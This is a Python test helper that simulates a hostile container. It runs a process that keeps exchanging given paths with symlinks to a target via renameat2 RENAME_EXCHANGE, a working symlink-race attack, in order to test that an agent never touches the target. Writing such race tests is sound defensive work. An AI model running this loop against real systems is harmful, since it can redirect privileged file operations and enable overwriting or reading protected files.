"""What a hostile container does with files, as a process of its own: `python link_attacks.py EVIL TARGET PLACE...`.

Exchanges each place with a link to the target and, the next time round, back (renameat2 with RENAME_EXCHANGE), until it is killed.
EVIL: a folder of its own on the same file system. A place may have a `*`, for names that are not known before.
"""

from __future__ import annotations

import contextlib
import ctypes
import glob
import os
import random
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

_EXCHANGE, _HERE = 2, -100
_libc = ctypes.CDLL(None, use_errno=True)


@contextlib.contextmanager
def attacking(evil: Path, target: Path, *places: str) -> Iterator[None]:
    """As long as the block runs."""
    evil.mkdir(exist_ok=True)
    with subprocess.Popen([sys.executable, __file__, str(evil), str(target), *places]) as attacker:
        try:
            while not (evil / "started").exists():
                pass
            yield
            assert attacker.poll() is None, "the attacker must not have given up"
        finally:
            attacker.kill()
    (evil / "started").unlink()


def _exchange(one: str, other: str) -> bool:
    return _libc.renameat2(_HERE, one.encode(), _HERE, other.encode(), _EXCHANGE) == 0


def _names(places: list[str]) -> Iterator[str]:
    for place in places:
        if "*" in place:
            yield from glob.glob(place, include_hidden=True)
        else:
            yield place


def _main(evil: str, target: str, places: list[str]) -> None:
    slots: dict[str, str] = {}
    kept = 0
    Path(evil, "started").touch()
    while True:
        for place in _names(places):
            slot = slots.setdefault(place, f"{evil}/{len(slots)}")
            with contextlib.suppress(OSError):
                folder = os.path.dirname(place)
                if os.path.realpath(folder) != folder:
                    continue  # through one of our own links: it is the agent that must not touch the target
                if os.path.lexists(slot) and not os.path.islink(slot) and not os.path.islink(place):
                    kept += 1
                    os.rename(slot, f"{evil}/kept-{kept}")
                if not os.path.lexists(slot):
                    os.symlink(target, slot)
                if not _exchange(place, slot) and not os.path.lexists(place):
                    os.symlink(target, place)
            # The agent is met at another point each time.
            for _ in range(random.randrange(300)):
                pass


if __name__ == "__main__":
    _main(sys.argv[1], sys.argv[2], sys.argv[3:])
